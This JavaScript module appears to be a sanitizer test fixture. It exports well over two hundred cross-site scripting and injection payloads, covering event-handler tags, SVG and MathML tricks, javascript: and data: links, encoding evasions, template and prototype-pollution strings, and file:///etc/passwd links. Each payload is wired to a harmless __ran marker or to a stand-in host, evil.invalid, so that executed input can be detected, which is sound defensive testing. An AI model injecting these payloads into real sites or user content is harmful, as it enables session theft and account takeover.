// What a stranger may write to have a page run it. Each payload calls __ran with its
// number, or asks for an address that nobody has: both are noticed.

const evil = 'http://evil.invalid'

// On means HTML that runs by itself once it is parsed as HTML; the others need a
// click, a careless attribute, a template or a style.
const html = [
  '<img src=x onerror=RUN>', '<img src=x onerror="RUN">', "<img src=x onerror='RUN'>", '<IMG SRC=x OnErRoR=RUN>', '<img/src=x/onerror=RUN>',
  '<img src onerror=RUN>', '<img\nsrc=x\nonerror=RUN>', '<img\tsrc=x\tonerror=RUN>', '<img src=x onerror=RUN//', '<img src="URL">', '<img srcset="URL 1x">',
  '<svg onload=RUN>', '<svg/onload=RUN>', '<svg><g onload=RUN></g></svg>', '<svg><animate onbegin=RUN attributeName=x dur=1s>', '<svg><set onbegin=RUN attributeName=x>',
  '<svg><image href=x onerror=RUN></image></svg>', '<svg><style><img src=x onerror=RUN></style></svg>', '<svg><script>RUN</script></svg>', '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>', '<math href="javascript:RUN">x</math>', '<math><mtext></p><img src=x onerror=RUN></mtext></math>',
  '<iframe src="javascript:RUN"></iframe>', '<iframe srcdoc="<script>parent.RUN</script>"></iframe>', '<iframe src="URL"></iframe>', '<iframe onload=RUN></iframe>',
  '<object data="javascript:RUN"></object>', '<object data="URL"></object>', '<embed src="javascript:RUN">', '<embed src="URL">',
  '<video><source onerror=RUN></video>', '<video src=x onerror=RUN></video>', '<video poster="URL"></video>', '<audio src=x onerror=RUN></audio>', '<audio src="URL" autoplay></audio>',
  '<body onload=RUN>', '<body onpageshow=RUN>', '<body background="URL">', '<details open ontoggle=RUN><summary>x</summary></details>', '<input autofocus onfocus=RUN>', '<select autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>', '<button autofocus onfocus=RUN>x', '<a autofocus tabindex=1 onfocus=RUN>x</a>', '<marquee onstart=RUN>x</marquee>', '<keygen autofocus onfocus=RUN>',
  '<script>RUN</script>', '<script src="URL"></script>', '<script>/*', '<scr<script>ipt>RUN</scr</script>ipt>', '</script><script>RUN</script>', '<script type=module>RUN</script>',
  '<link rel=stylesheet href="URL">', '<link rel=prefetch href="URL">', '<link rel=preconnect href="URL">', '<style>@import "URL";</style>', '<style>*{background:url(URL)}</style>', '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=URL">', '<base href="URL/">', '<form action="URL"><button autofocus>x</form>', '<form><button formaction="javascript:RUN">x</button></form>', '<isindex action="javascript:RUN">',
  '<table background="URL"><tr><td background="URL">x</table>', '<div style="background:url(URL)">x</div>', '<div style="width:expression(RUN)">x</div>', '<x onclick=RUN>x</x>', '<x onmouseover=RUN style=position:fixed;inset:0>x</x>',
  '<template><img src=x onerror=RUN></template>', '<noscript><p title="</noscript><img src=x onerror=RUN>">', '<title><a href="</title><img src=x onerror=RUN>">', '<textarea></textarea><img src=x onerror=RUN>', '<!--><img src=x onerror=RUN>-->',
  '<![CDATA[><img src=x onerror=RUN>]]>', '<?xml ?><img src=x onerror=RUN>', '"><img src=x onerror=RUN>', "'><img src=x onerror=RUN>", '`><img src=x onerror=RUN>', '--><img src=x onerror=RUN>', ']]><img src=x onerror=RUN>',
  '</title><img src=x onerror=RUN>', '</style><img src=x onerror=RUN>', '</textarea><img src=x onerror=RUN>', '</noscript><img src=x onerror=RUN>', '</bdi></div><img src=x onerror=RUN>', '<custom-x><img src=x onerror=RUN></custom-x>',
  '<dialog open onclose=RUN><img src=x onerror=RUN></dialog>', '<portal src="URL"></portal>', '<img src=x:x onerror=RUN>', '<img src=data:,x onerror=RUN>', '<image src=x onerror=RUN>', '<p><svg><desc><img src=x onerror=RUN></desc></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>', '<style onload=RUN>x{}</style>', '<link rel=stylesheet href=data:, onload=RUN>', '<track src="URL">', '<area href="javascript:RUN" shape=default>', '<div popover id=p ontoggle=RUN>x</div>',
]

const links = [
  'javascript:RUN', 'JaVaScRiPt:RUN', ' javascript:RUN', '\u0001javascript:RUN', 'java\tscript:RUN', 'java\nscript:RUN', 'java\rscript:RUN', 'javascript\n:RUN', 'javascript://x%0aRUN', 'javascript:/*https://a.example*/RUN',
  'data:text/html,<script>RUN</script>', 'data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=', 'vbscript:RUN', 'feed:javascript:RUN', 'view-source:javascript:RUN', 'blob:URL/1', 'file:///etc/passwd', 'about:blank#RUN', 'filesystem:URL/x', 'ws://evil.invalid',
  'https://a.example/"onmouseover="RUN', "https://a.example/'onmouseover='RUN", 'https://a.example/"><img src=x onerror=RUN>', 'https://a.example/\u202ejavascript:RUN', 'https://javascript:RUN@evil.invalid/', 'https://a.example%00javascript:RUN',
  'https://javascript:RUN', '//evil.invalid/x', 'http:javascript:RUN', 'https:evil.invalid', '[x](javascript:RUN)', '![x](URL)', '<javascript:RUN>', '&#106;avascript:RUN', '&#x6A;avascript:RUN', '%6Aavascript:RUN', '\\u006Aavascript:RUN', 'jav&#x09;ascript:RUN',
]

const scripts = [
  '{{constructor.constructor("RUN")()}}', '${RUN}', '#{RUN}', '<%= RUN %>', '{{RUN}}', '{%RUN%}', '[[RUN]]', '";RUN;//', "';RUN;//", '`;RUN;//', '\\";RUN;//', '</script>RUN', ');RUN;//', '};RUN;//', '__proto__', 'constructor', '{"__proto__":{"x":1}}',
  '{"type":"img","props":{"onerror":"RUN"}}', '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}', '{"constructor":null,"type":"script","props":{"children":"RUN"}}', 'on\u2028RUN\u2029', "onerror=RUN x='", '" autofocus onfocus=RUN x="', "' autofocus onfocus=RUN x='",
  '" style="background:url(URL)', 'url(URL)', '}*{background:url(URL)}', ');background:url(URL', 'expression(RUN)', '@import "URL"', '\u0000<img src=x onerror=RUN>', '\ufeff<img src=x onerror=RUN>', '<\u0000img src=x onerror=RUN>', '＜img src=x onerror=RUN＞', '‹img src=x onerror=RUN›',
  '&lt;img src=x onerror=RUN&gt;', '&#60;img src=x onerror=RUN&#62;', '%3Cimg src=x onerror=RUN%3E', '\\x3cimg src=x onerror=RUN\\x3e', '\\u003cimg src=x onerror=RUN\\u003e', '+ADw-img src=x onerror=RUN+AD4-', '\u202e<img src=x onerror=RUN>\u202c', '\u2066<svg onload=RUN>\u2069',
  'a\u0301'.repeat(500) + '<svg onload=RUN>', '\u200b<\u200bimg src=x onerror=RUN>', '<img src=x onerror=RUN>'.repeat(20), '<'.repeat(1000) + '<img src=x onerror=RUN>', '<a href="javascript:RUN">'.repeat(8) + 'x', '<b>'.repeat(200) + '<svg onload=RUN>',
  '#<img src=x onerror=RUN>', '#tag<svg onload=RUN>', '@<svg onload=RUN>', 'did:key:z6Mk<img src=x onerror=RUN>', 'did:key:z6Mk"onmouseover=RUN', '../../<svg onload=RUN>', '#/post/<svg onload=RUN>', '#code=<svg onload=RUN>', 'hasOwnProperty', 'toString',
]

// The same again, as what ends an attribute or an element first.
const after = html.slice(0, 60).map((p, i) => ['"\'>', '</div>', '*/-->'][i % 3] + p)

/** payloads are all of them, numbered. */
export const payloads = [...html, ...links, ...scripts, ...after].map((p, i) => p.replaceAll('RUN', `__ran(${i})`).replaceAll('URL', `${evil}/${i}`))
